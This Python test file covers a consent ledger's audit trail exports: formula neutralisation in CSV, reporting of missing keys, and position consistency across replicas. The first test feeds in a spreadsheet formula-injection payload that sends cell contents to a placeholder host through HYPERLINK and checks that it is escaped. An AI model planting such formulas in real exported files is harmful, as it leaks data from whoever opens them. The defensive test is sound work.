"""The CSV trail a compliance officer opens in a spreadsheet."""

from __future__ import annotations

import csv
import io
import shutil
import sqlite3
from contextlib import closing
from dataclasses import replace
from pathlib import Path
from typing import Any

from hypothesis import given, settings
from hypothesis import strategies as st

from ledger.application import ConsentLedger
from ledger.controls import visible
from ledger.envelope import parse_fact
from ledger.receipt import Receipt
from projections.evidence import evidence_package
from projections.trail import _FORMULA_START, subject_trail, text_cell, trail_csv
from tests.examples import examples
from tests.facts import grant


def test_a_publishers_text_that_looks_like_a_formula_is_a_text_cell(
    ledger: ConsentLedger,
) -> None:
    """The JSON trail keeps what the publisher sent; the CSV makes it inert."""
    event_id = '=HYPERLINK("http://example.test/?leak="&A1)'
    [receipt] = ledger.record(
        [parse_fact(grant("csv-subject", event_id=event_id, source="@SUM(1+1)"))]
    )
    assert isinstance(receipt, Receipt) and receipt.sid is not None
    trail = subject_trail(ledger, "demo", ledger.sid("demo", "csv-subject"))
    assert trail is not None
    [fact] = trail["facts"]
    assert (fact["event_id"], fact["source"]) == (event_id, "@SUM(1+1)")
    header, row = list(csv.reader(io.StringIO(trail_csv(trail))))
    cells = dict(zip(header, row, strict=True))
    assert cells["event_id"] == "'" + event_id
    assert cells["source"] == "'@SUM(1+1)"
    assert cells["type"] == "consent.granted"  # the ledger's own words are as they are


@settings(max_examples=examples(300))
@given(st.text())
def test_a_text_cell_never_starts_a_formula_and_hides_nothing(value: str) -> None:
    cell = text_cell(value)
    assert not cell.startswith(_FORMULA_START)
    assert cell.isprintable()  # a control shows as its escape (ledger.controls)
    shown = visible(value)
    assert cell in (shown, "'" + shown)
    assert cell == shown or shown.startswith(_FORMULA_START)


def test_data_whose_key_is_missing_is_not_called_erased(tmp_path: Path) -> None:
    """keys.db restored from a backup older than the log: a subject recorded after it has
    no key. The trail said `(erased)` and `{"erased": true}` for a person never erased (a
    false statement in what is handed to the authorised body); once a later fact gave them
    a new key, reading the trail failed on the old facts (InvalidTag, a traceback)."""
    import orjson

    from tests.cli_support import run

    data = tmp_path / "data"
    assert run(data, "init").returncode == 0
    first = grant("first", event_id="g1", personal_data={"email": "a@example.uz"})
    assert run(data, "record", stdin=orjson.dumps(first).decode()).returncode == 0
    older = (data / "keys.db").read_bytes()  # every process closed: the WAL is in the file
    second = grant("second", event_id="g2", personal_data={"email": "b@example.uz"})
    assert run(data, "record", stdin=orjson.dumps(second).decode()).returncode == 0
    for leftover in data.glob("keys.db*"):
        leftover.unlink()
    (data / "keys.db").write_bytes(older)

    def trail() -> dict[str, Any]:
        out = run(data, "trail", "second", "--tenant", "demo", "--json")
        assert out.returncode == 0, out.stderr
        return dict(orjson.loads(out.stdout))

    before = trail()
    assert before["erased"] is False and before["subject"] is None
    assert [f["personal_data"] for f in before["facts"]] == [{"key_missing": True}]
    table = run(data, "trail", "second", "--tenant", "demo").stdout
    assert "(key missing: not erased)" in table and "erased" not in table.replace("not erased", "")
    checked = run(data, "verify")  # the log is intact; the key store's gap is named
    assert checked.returncode == 0, checked.stderr
    assert "verify: warning: 1 subjects have neither a key in the key store nor an erasure" in (
        checked.stderr
    )
    assert orjson.loads(run(data, "verify", "--json").stdout)["subjects_without_key"] == 1
    # GET /v1/verify's count, its caller's tenant's subjects only (tests/test_cli_answers.py).
    assert run(data, "tenants", "create", "other").returncode == 0
    for tenant, keyless in (("demo", 1), ("other", 0)):
        scoped = run(data, "verify", "--tenant", tenant, "--json")
        assert orjson.loads(scoped.stdout)["subjects_without_key"] == keyless, tenant
    report = run(data, "report", "second", "--tenant", "demo")
    assert report.returncode == 0, report.stderr
    assert "INCOMPLETE: some of it is sealed under a key the key store does not hold" in (
        report.stdout
    )
    report_json = orjson.loads(run(data, "report", "second", "--tenant", "demo", "--json").stdout)
    assert report_json["personal_data_unreadable"] is True and report_json["erased"] is False
    again = grant(
        "second",
        event_id="g3",
        occurred_at="2025-03-02T10:00:00+05:00",
        personal_data={"email": "b2@example.uz"},
    )
    assert run(data, "record", stdin=orjson.dumps(again).decode()).returncode == 0
    after = trail()
    assert [f["personal_data"] for f in after["facts"]] == [
        {"key_missing": True},
        {"personal_data": {"email": "b2@example.uz"}},
    ]


def test_a_trail_and_its_evidence_place_each_fact_where_its_receipt_did(
    backend_ledger: ConsentLedger, tmp_path: Path
) -> None:
    """In Kafka mode the trail gave the replica's own numbering (its reads' order), which
    neither the receipts (partition and offset) nor another replica share: the same fact
    stood at position 360 in a trail and at 115 in the receipt of its erasure."""
    ledger = backend_ledger
    facts = [grant(f"placed-{n % 7}", event_id=f"placed-{n}") for n in range(28)]
    receipts = {
        r.event_id: r
        for r in ledger.record([parse_fact(f) for f in facts])
        if isinstance(r, Receipt)
    }
    assert len(receipts) == 28
    kafka = ledger.settings.backend == "kafka"
    sid = ledger.sid("demo", "placed-3")
    trail = subject_trail(ledger, "demo", sid)
    assert trail is not None
    rows = [row for row in trail["facts"] if row["event_id"] in receipts]
    assert len(rows) == 4
    for row in rows:
        receipt = receipts[row["event_id"]]
        assert (row.get("partition"), row["position"]) == (receipt.partition, receipt.position)
    header = next(csv.reader(io.StringIO(trail_csv(trail))))
    assert header[:2] == (["position", "partition"] if kafka else ["position", "version"])
    package = evidence_package(ledger, "demo", sid)
    assert package is not None
    entries = {e["version"]: e for e in package["chains"]["subject"]}
    for row in trail["facts"]:
        entry = entries[row["version"]]
        assert entry["position"] == row["position"]
        assert entry["partition"] == row.get("partition", 0)
    if kafka:
        # Another replica, rebuilt from the topic, hands over the same trail.
        other_dir = tmp_path / "other-replica"
        other_dir.mkdir()
        shutil.copy(ledger.settings.master_key_path, other_dir / "master.key")
        # The key store as it is now, its WAL included (a file copy would miss it).
        with (
            closing(sqlite3.connect(ledger.settings.keystore_path)) as kept,
            closing(sqlite3.connect(other_dir / "keys.db")) as copy,
        ):
            kept.backup(copy)
        other = ConsentLedger(replace(ledger.settings, data_dir=other_dir))
        try:
            assert subject_trail(other, "demo", sid) == trail
        finally:
            other.close()
